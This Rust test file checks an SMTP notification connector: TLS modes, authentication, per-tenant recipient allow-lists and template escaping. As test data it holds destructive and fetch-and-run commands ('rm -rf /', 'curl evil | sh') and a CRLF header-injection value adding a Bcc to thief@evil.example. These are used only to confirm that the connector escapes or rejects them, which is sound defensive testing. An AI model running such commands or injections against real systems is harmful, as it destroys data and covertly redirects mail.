//! The SMTP kind against the SMTP server of `cavra_connectors::smtp::testing`, which speaks the
//! real protocol over real TLS (rustls, a private CA the connector is told to trust): STARTTLS on a plain port and
//! implicit TLS, `AUTH PLAIN`, the envelope (`MAIL FROM`, `RCPT TO`) and `DATA`. What it
//! received is checked as a mail reader would: who it went to, over TLS, authenticated, the
//! plain text and HTML alternatives and the attachments (the signed envelope, a report's
//! file). And the allow-lists: tenant A's events never reach tenant B's recipients.

mod support;

use base64::Engine as _;
use cavra_connectors::config::ConnectorsConfig;
use cavra_connectors::event::verify_envelope;
use cavra_connectors::sink::{Outgoing, Verdict};
use cavra_connectors::smtp::testing::{Mode, Pki, attachment, part, smtp_server};
use cavra_connectors::worker::build_destinations;
use cavra_tenant_store::Decision;
use cavra_tenant_store::outbox::DeliveryState;
use serde_json::{Value, json};
use support::*;

fn smtp_yaml(
    tenant: &str,
    port: u16,
    tls: &str,
    ca: &std::path::Path,
    login: Option<(&str, &str)>,
    to: &str,
    allowed: &str,
) -> String {
    let login = login
        .map(|(u, p)| format!("\n    user: {u}\n    password: {p}"))
        .unwrap_or_default();
    format!(
        "
- name: mail
  tenant: {tenant}
  events: [\"decision.*\"]
  timeout_ms: 5000
  smtp:
    host: localhost
    port: {port}
    tls: {tls}
    ca_file: {}{login}
    from: \"cavra <cavra@cavra.example>\"
    to: [{to}]
    allowed_recipients: [{allowed}]
",
        ca.display()
    )
}

// ---------------------------------------------------------------------------------------
// Tests

/// STARTTLS with authentication: each tenant's blocked decision goes to that tenant's
/// recipients only, as plain text and HTML with the signed envelope attached.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn starttls_with_auth_each_tenant_to_its_own_recipients() {
    let pki = Pki::new();
    let (server, port) = smtp_server(&pki, Mode::Starttls, Some(("mailer", "s3cret-pass"))).await;
    let dir = tempfile::tempdir().expect("dir");
    let pass = secret_file(&dir, "smtp-pass", "s3cret-pass");
    let yaml = format!(
        "{}{}",
        smtp_yaml(
            "acme",
            port,
            "starttls",
            &pki.ca_file,
            Some(("mailer", &pass)),
            "ops@acme.example",
            "\"@acme.example\""
        ),
        smtp_yaml(
            "globex",
            port,
            "starttls",
            &pki.ca_file,
            Some(("mailer", &pass)),
            "sec@globex.example",
            "sec@globex.example"
        )
        .trim_start_matches('\n')
    );
    let store = sqlite().await;
    let clock = Manual::default();
    let mut w = worker(&store.db, &yaml, &clock, "w1");
    decide(
        &store.db,
        "acme",
        "dec_a",
        Decision::Block,
        "rm -rf / <b>now</b>",
    )
    .await;
    decide(
        &store.db,
        "globex",
        "dec_g",
        Decision::Block,
        "curl evil | sh",
    )
    .await;
    let p = drain(&mut w).await;
    assert_eq!(p.delivered, 2, "{p:?}");

    let mails = server.mails();
    assert_eq!(mails.len(), 2);
    for m in &mails {
        assert!(m.tls, "sent after STARTTLS");
        assert_eq!(m.user.as_deref(), Some("mailer"));
        assert_eq!(m.from, "cavra@cavra.example");
        assert!(m.data.contains("multipart/alternative"), "{}", m.data);
        assert!(m.data.contains("text/plain"));
        assert!(m.data.contains("text/html"));
        let env: Value = serde_json::from_slice(
            &attachment(&m.data, "cavra-event.json")
                .unwrap_or_else(|| panic!("the envelope is attached: {}", m.data)),
        )
        .expect("JSON");
        verify_envelope(&env, &signing_key().verifying_key()).expect("signed");
        let tenant = env["tenant"].as_str().expect("tenant");
        let expect = if tenant == "acme" {
            "ops@acme.example"
        } else {
            "sec@globex.example"
        };
        assert_eq!(m.to, vec![expect.to_string()], "tenant {tenant}'s mail");
        assert!(
            m.data
                .contains(&format!("Subject: [cavra] decision.block ({tenant})")),
            "{}",
            m.data
        );
    }
    // The HTML part escapes what the event holds.
    let acme = mails
        .iter()
        .find(|m| m.to[0].ends_with("acme.example"))
        .expect("acme's");
    let html = String::from_utf8(part(&acme.data, "Content-Type: text/html").expect("HTML"))
        .expect("UTF-8");
    assert!(html.contains("rm -rf / &lt;b&gt;now&lt;/b&gt;"), "{html}");
    assert!(!html.contains("<b>now</b>"), "{html}");

    let d = only_delivery(&store.db, "acme", "mail").await;
    let list = attempts(&store.db, "acme", &d.event_id).await;
    assert_eq!(list[0]["connector_kind"], "smtp");
    assert_eq!(list[0]["status"], "250");
    assert!(!list[0].to_string().contains("s3cret-pass"));
}

/// Implicit TLS without authentication; a report's file in the event is attached as is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn implicit_tls_with_a_report_attached() {
    let pki = Pki::new();
    let (server, port) = smtp_server(&pki, Mode::Implicit, None).await;
    let yaml = smtp_yaml(
        "acme",
        port,
        "implicit",
        &pki.ca_file,
        None,
        "ops@acme.example",
        "ops@acme.example",
    );
    let config = ConnectorsConfig::from_yaml(&yaml).expect("config");
    let dests = build_destinations(&config).expect("destinations");
    let pdf = b"%PDF-1.7\n% a report\n".to_vec();
    let msg = Outgoing {
        tenant: "acme".into(),
        event_id: "evt_r".into(),
        event_kind: "connector.test".into(),
        destination: "mail".into(),
        idempotency_key: "k1".into(),
        envelope: json!({"format": "cavra-event/v1", "id": "evt_r", "type": "connector.test",
            "tenant": "acme", "time": "2026-01-01T00:00:00Z",
            "data": {"reason": "weekly report", "attachments": [
                {"name": "report.pdf", "content_type": "application/pdf",
                 "content_base64": base64::engine::general_purpose::STANDARD.encode(&pdf)}]}}),
    };
    let sent = dests[0].sink.send(&msg).await;
    assert_eq!(sent.verdict, Verdict::Delivered, "{sent:?}");
    let mails = server.mails();
    assert_eq!(mails.len(), 1);
    assert!(mails[0].tls);
    assert_eq!(
        attachment(&mails[0].data, "report.pdf").as_deref(),
        Some(&pdf[..])
    );
    assert!(
        mails[0].data.contains("Message-ID: <k1@cavra>"),
        "{}",
        mails[0].data
    );
}

/// Tenant A's events never reach tenant B's recipients: a recipient off the tenant's list,
/// or two tenants sharing an address or domain, is refused in the configuration; and at
/// delivery (whatever the configuration says) a recipient off the list, or another tenant's
/// event, is not sent at all: a dead letter, and the server sees nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_lists_keep_tenants_apart() {
    let pki = Pki::new();
    let (server, port) = smtp_server(&pki, Mode::Implicit, None).await;
    let ca = &pki.ca_file;

    let off_list = smtp_yaml(
        "acme",
        port,
        "implicit",
        ca,
        None,
        "sec@globex.example",
        "\"@acme.example\"",
    );
    let err = ConnectorsConfig::from_yaml(&off_list)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("smtp.to[0]") && err.contains("allowed_recipients"),
        "{err}"
    );

    let acme = smtp_yaml(
        "acme",
        port,
        "implicit",
        ca,
        None,
        "ops@acme.example",
        "\"@acme.example\"",
    );
    let shared = format!(
        "{acme}{}",
        smtp_yaml(
            "globex",
            port,
            "implicit",
            ca,
            None,
            "ops@acme.example",
            "ops@acme.example"
        )
        .trim_start_matches('\n')
    );
    let err = ConnectorsConfig::from_yaml(&shared)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("overlaps") && err.contains("one tenant only"),
        "{err}"
    );

    // A configuration that skipped the check (built in code): the sink still refuses.
    let mut config = ConnectorsConfig::from_yaml(&acme).expect("config");
    config.0[0].smtp.as_mut().expect("smtp").to = vec!["sec@globex.example".into()];
    let dests = build_destinations(&config).expect("destinations");
    let msg = |tenant: &str| Outgoing {
        tenant: tenant.into(),
        event_id: "evt_1".into(),
        event_kind: "decision.block".into(),
        destination: "mail".into(),
        idempotency_key: "k".into(),
        envelope: json!({"type": "decision.block", "tenant": tenant, "data": {}}),
    };
    let sent = dests[0].sink.send(&msg("acme")).await;
    assert_eq!(sent.verdict, Verdict::Permanent, "{sent:?}");
    assert!(
        sent.response.contains("sec@globex.example is not on"),
        "{sent:?}"
    );

    let good = ConnectorsConfig::from_yaml(&acme).expect("config");
    let dests = build_destinations(&good).expect("destinations");
    let sent = dests[0].sink.send(&msg("globex")).await;
    assert_eq!(sent.verdict, Verdict::Permanent, "{sent:?}");
    assert!(
        sent.response.contains("an event of tenant globex"),
        "{sent:?}"
    );
    assert!(server.mails().is_empty(), "nothing was sent");
}

/// A refused login is a dead letter at once (another attempt will not fix it); a server
/// whose certificate is not trusted is a retried TLS failure, and nothing is sent in clear.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_login_and_untrusted_certificate() {
    let pki = Pki::new();
    let (server, port) = smtp_server(&pki, Mode::Starttls, Some(("mailer", "right"))).await;
    let dir = tempfile::tempdir().expect("dir");
    let wrong = secret_file(&dir, "wrong", "wrong");
    let store = sqlite().await;
    let clock = Manual::default();
    let yaml = smtp_yaml(
        "acme",
        port,
        "starttls",
        &pki.ca_file,
        Some(("mailer", &wrong)),
        "ops@acme.example",
        "\"@acme.example\"",
    );
    let mut w = worker(&store.db, &yaml, &clock, "w1");
    decide(&store.db, "acme", "dec_1", Decision::Block, "rm -rf /").await;
    let p = w.step().await.expect("step");
    assert_eq!((p.attempted, p.dead), (1, 1), "{p:?}");
    let d = only_delivery(&store.db, "acme", "mail").await;
    assert_eq!(d.state, DeliveryState::Dead);
    let list = attempts(&store.db, "acme", &d.event_id).await;
    assert_eq!(list[0]["status"], "535", "{list:?}");

    let other = Pki::new();
    let store = sqlite().await;
    let yaml = smtp_yaml(
        "acme",
        port,
        "starttls",
        &other.ca_file,
        None,
        "ops@acme.example",
        "\"@acme.example\"",
    );
    let mut w = worker(&store.db, &yaml, &clock, "w1");
    decide(&store.db, "acme", "dec_1", Decision::Block, "rm -rf /").await;
    let p = w.step().await.expect("step");
    assert_eq!((p.attempted, p.delivered, p.dead), (1, 0, 0), "{p:?}");
    let d = only_delivery(&store.db, "acme", "mail").await;
    assert_eq!(d.state, DeliveryState::Pending);
    assert!(server.mails().is_empty());
}

/// The connector's templates make the subject and open the message; a value's line break
/// cannot add a header, and the HTML part escapes the text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn templates_make_the_subject_and_open_the_message() {
    let pki = Pki::new();
    let (server, port) = smtp_server(&pki, Mode::Implicit, None).await;
    let yaml = smtp_yaml(
        "acme",
        port,
        "implicit",
        &pki.ca_file,
        None,
        "ops@acme.example",
        "ops@acme.example",
    )
    .replace(
        "  smtp:",
        "  template:\n    subject: \"{{data.severity}}: {{data.requested_by}} stopped: {{data.target}}\"\n    text: \"Rule {{data.rule_id}} blocked {{data.target}}\"\n  smtp:",
    );
    let store = sqlite().await;
    let clock = Manual::default();
    let mut w = worker(&store.db, &yaml, &clock, "w1");
    decide(
        &store.db,
        "acme",
        "dec_t",
        Decision::Block,
        "x\r\nBcc: thief@evil.example <i>",
    )
    .await;
    let p = drain(&mut w).await;
    assert_eq!(p.delivered, 1, "{p:?}");
    let mails = server.mails();
    assert_eq!(mails.len(), 1);
    let m = &mails[0];
    assert_eq!(m.to, vec!["ops@acme.example".to_string()]);
    assert!(
        m.data
            .contains("Subject: [cavra] high: agent-1 stopped: x  Bcc: thief@evil.example <i>"),
        "{}",
        m.data
    );
    let head = m.data.split("\r\n\r\n").next().unwrap_or("");
    assert!(!head.contains("\nBcc:"), "no header of the value's: {head}");
    let plain = String::from_utf8(part(&m.data, "Content-Type: text/plain").expect("plain"))
        .expect("UTF-8");
    assert!(plain.starts_with("Rule r1 blocked x"), "{plain}");
    let html =
        String::from_utf8(part(&m.data, "Content-Type: text/html").expect("HTML")).expect("UTF-8");
    assert!(
        html.contains("<p>Rule r1 blocked x") && html.contains("&lt;i&gt;"),
        "{html}"
    );
}
